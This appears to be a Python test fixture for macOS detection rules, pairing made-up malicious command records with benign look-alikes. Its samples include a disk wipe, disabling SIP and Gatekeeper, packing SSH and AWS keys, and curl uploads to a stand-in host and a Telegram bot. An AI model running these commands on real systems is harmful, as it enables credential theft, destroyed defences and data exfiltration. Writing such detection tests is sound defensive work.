"""Made-up records for the shipped rules about macOS, the last third: attacks and ordinary work near them."""

from tests.rules.macos_documents import asked, connected, ran, wrote
from tests.rules.shipped_samples import Sample

SAMPLES = (
    Sample(
        "Password Hash of an Account Read (macOS)",
        ran("dscl . read /Users/ann dsAttrTypeNative:ShadowHashData"),
        ran("dscl . read /Users/ann UserShell"),
    ),
    Sample(
        "Password Tried with a Directory Command (macOS)",
        ran("dscl /Local/Default -authonly ann secret"),
        ran("dscl . -read /Users/ann RealName"),
    ),
    Sample(
        "Kerberos Tickets or Keys Handled by a Rare Tool (macOS)",
        ran("kcc copy_cred_cache /tmp/a KCM:1"),
        ran("klist"),
    ),
    Sample(
        "Private Keys or Cloud Credentials Copied or Packed (macOS)",
        ran("zip -r /tmp/o.zip /Users/ann/.ssh /Users/ann/.aws"),
        ran("cp /Users/ann/.ssh/id_ed25519.pub /tmp/"),
    ),
    Sample(
        "Files Searched for Secrets (macOS)",
        ran("mdfind -name password"),
        ran("mdfind -name invoice"),
    ),
    Sample(
        "Quarantine Lifted from a File",
        ran("xattr -d com.apple.quarantine /Applications/A.app"),
        ran("xattr -l /Applications/A.app"),
    ),
    Sample(
        "Quarantine Lifted in a Writable or Hidden Place",
        ran("xattr -rc /private/tmp/Up.app"),
        ran("xattr -d com.apple.quarantine /Applications/A.app"),
    ),
    Sample(
        "Check of Downloads Switched Off",
        ran("spctl --master-disable"),
        ran("spctl --status"),
    ),
    Sample(
        "Protection of the System Switched Off",
        ran("csrutil disable"),
        ran("csrutil status"),
    ),
    Sample(
        "Updates of Protection Switched Off (macOS)",
        ran("softwareupdate --schedule off"),
        ran("softwareupdate --list"),
    ),
    Sample(
        "Security Tool Stopped or Removed (macOS)",
        ran("launchctl bootout system/com.crowdstrike.falcond"),
        ran("launchctl print system/com.crowdstrike.falcond"),
    ),
    Sample(
        "Security Tools Looked For (macOS)",
        ran("sh -c 'ps aux | grep -i -E \"Little Snitch|LuLu\"'"),
        ran("sh -c 'ps aux | grep -i postgres'"),
    ),
    Sample(
        "Firewall Emptied or Switched Off (macOS)",
        ran("pfctl -d"),
        ran("pfctl -s rules"),
    ),
    Sample(
        "Logs Erased or Logging Switched Off (macOS)",
        ran("log erase --all"),
        ran("log show --last 1h"),
    ),
    Sample(
        "History of a Shell Emptied or Switched Off (macOS)",
        ran("rm -f /Users/ann/.zsh_history"),
        ran("rm -f /Users/ann/notes.txt"),
    ),
    Sample(
        "Backups Deleted or Switched Off (macOS)",
        ran("tmutil disable"),
        ran("tmutil listlocalsnapshots /"),
    ),
    Sample(
        "Disk or Home Wiped by a Command (macOS)",
        ran("dd if=/dev/zero of=/dev/disk0 bs=1m"),
        ran("rm -rf /Users/ann/src/build"),
    ),
    Sample(
        "Encryption of the Disk Switched Off (macOS)",
        ran("fdesetup disable"),
        ran("fdesetup status"),
    ),
    Sample(
        "Time of a File Set by Hand (macOS)",
        ran("touch -t 201901010000 /Library/a", image="/usr/bin/touch"),
        ran("touch /Users/ann/a", image="/usr/bin/touch"),
    ),
    Sample(
        "File Hidden or Locked by a Flag (macOS)",
        ran("chflags hidden /Users/ann/up"),
        ran("chflags nohidden /Users/ann/Library"),
    ),
    Sample(
        "Hidden Item Made in a Shared or Temporary Folder (macOS)",
        wrote("/usr/bin/curl", "/Users/Shared/.up"),
        wrote("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "/Users/Shared/.DS_Store"),
    ),
    Sample(
        "File in a Temporary or Shared Folder Made Executable (macOS)",
        ran("chmod +x /tmp/up"),
        ran("chmod +x /Users/ann/bin/up"),
    ),
    Sample(
        "Program Given Its Owner's Rights (macOS)",
        ran("chmod u+s /usr/local/bin/up"),
        ran("chmod 755 /usr/local/bin/up"),
    ),
    Sample(
        "Program Signed Again without a Certificate",
        ran("codesign --force --deep --sign - /Applications/A.app"),
        ran("codesign --verify /Applications/A.app"),
    ),
    Sample(
        "Program Made to Run Without a Face",
        ran("plutil -insert LSUIElement -string 1 /Users/ann/Library/A.app/Contents/Info.plist"),
        ran("plutil -p /Applications/A.app/Contents/Info.plist"),
    ),
    Sample(
        "Disk Image Attached Out of Sight",
        ran("hdiutil attach -nobrowse -mountrandom /private/tmp /private/tmp/a.dmg"),
        ran("hdiutil attach /Users/ann/Downloads/Tool.dmg"),
    ),
    Sample(
        "File Decrypted with a Password in the Command (macOS)",
        ran("openssl enc -aes-256-cbc -d -k secret -in a -out b"),
        ran("openssl x509 -in a.pem -noout"),
    ),
    Sample(
        "Check Whether the Mac Is a Virtual Machine",
        ran("sh -c 'ioreg -l | grep -e VirtualBox -e VMware'"),
        ran("ioreg -rd1 -c IOPlatformExpertDevice"),
    ),
    Sample(
        "Directory Searched from a Mac",
        ran("dscl '/Active Directory/CORP/All Domains' -list /Users"),
        ran("dscl . -list /Groups"),
    ),
    Sample(
        "Services of the Network Searched from a Mac",
        ran("dns-sd -B _ssh._tcp"),
        ran("dns-sd -Q example.org"),
    ),
    Sample(
        "Proxy or Name Server Set by a Command (macOS)",
        ran("networksetup -setwebproxy Wi-Fi 192.0.2.7 8080"),
        ran("networksetup -getwebproxy Wi-Fi"),
    ),
    Sample(
        "Table of Host Names Written by a Script (macOS)",
        wrote("/usr/bin/tee", "/etc/hosts"),
        wrote("/usr/bin/vim", "/etc/hosts"),
    ),
    Sample(
        "Screen Captured by a Script",
        ran("/usr/sbin/screencapture -x /tmp/s.png"),
        ran("/usr/sbin/screencapture -i /Users/ann/Desktop/s.png"),
    ),
    Sample(
        "Clipboard Read by a Script",
        ran("sh -c 'while true; do pbpaste >> /tmp/c; sleep 5; done'"),
        ran("pbpaste"),
    ),
    Sample(
        "Camera or Microphone Recorded by a Command (macOS)",
        ran("ffmpeg -f avfoundation -i :0 /tmp/a.wav"),
        ran("ffmpeg -i a.mov a.mp4"),
    ),
    Sample(
        "Archive of a Home Made in a Writable or Hidden Place",
        ran("ditto -c -k --sequesterRsrc /Users/ann/Documents /tmp/out.zip"),
        ran("zip -r report.zip report"),
    ),
    Sample(
        "File in a Temporary or Shared Folder Sent with curl (macOS)",
        ran("curl -X POST -F file=@/tmp/out.zip https://192.0.2.7/log"),
        ran("curl -X POST -d name=value https://example.org/api"),
    ),
    Sample(
        "File Sent to Another Machine with curl (macOS)",
        ran("curl -T report.zip https://192.0.2.7/"),
        ran("curl -o report.zip https://192.0.2.7/report.zip"),
    ),
    Sample(
        "Data Sent to a Bot, Web Hook or Cloud Storage by a Command (macOS)",
        ran("curl -F document=@a.zip https://api.telegram.org/bot1:a/sendDocument"),
        ran("curl https://example.org/webhooks"),
    ),
    Sample(
        "Tunnel Opened with ssh in the Background (macOS)",
        ran("ssh -fN -R 8022:localhost:22 a@192.0.2.7"),
        ran("ssh a@192.0.2.7"),
    ),
    Sample(
        "Tunnel Opened with a Tool (macOS)",
        ran("/Users/ann/bin/chisel client 192.0.2.7:443 R:socks"),
        ran("/usr/local/bin/cloudflared --version"),
    ),
    Sample(
        "Coins Dug on a Mac",
        ran("/private/tmp/x -o stratum+tcp://pool.example.org:3333"),
        ran("curl https://example.org/pool"),
    ),
    Sample(
        "AppleScript Connects to Another Machine",
        connected("/usr/bin/osascript", "192.0.2.7", 443),
        connected("/usr/bin/osascript", "127.0.0.1", 8080),
    ),
    Sample(
        "Shell Connects to Another Machine (macOS)",
        connected("/bin/bash", "192.0.2.7", 443),
        connected("/usr/bin/curl", "192.0.2.7", 443),
    ),
    Sample(
        "Program in a Writable or Hidden Folder Connects Out (macOS)",
        connected("/Users/Shared/agent", "192.0.2.7", 443),
        connected("/Applications/A.app/Contents/MacOS/A", "192.0.2.7", 443),
    ),
    Sample(
        "Interpreter Connects to a Port of Attack Tools (macOS)",
        connected("/usr/bin/perl", "192.0.2.7", 1337),
        connected("/usr/bin/perl", "192.0.2.7", 443),
    ),
    Sample(
        "Tool or Odd Program Asks for a Chat's Bot or a Tunnel (macOS)",
        asked("/usr/bin/curl", "api.telegram.org"),
        asked("/Applications/Telegram.app/Contents/MacOS/Telegram", "api.telegram.org"),
    ),
)
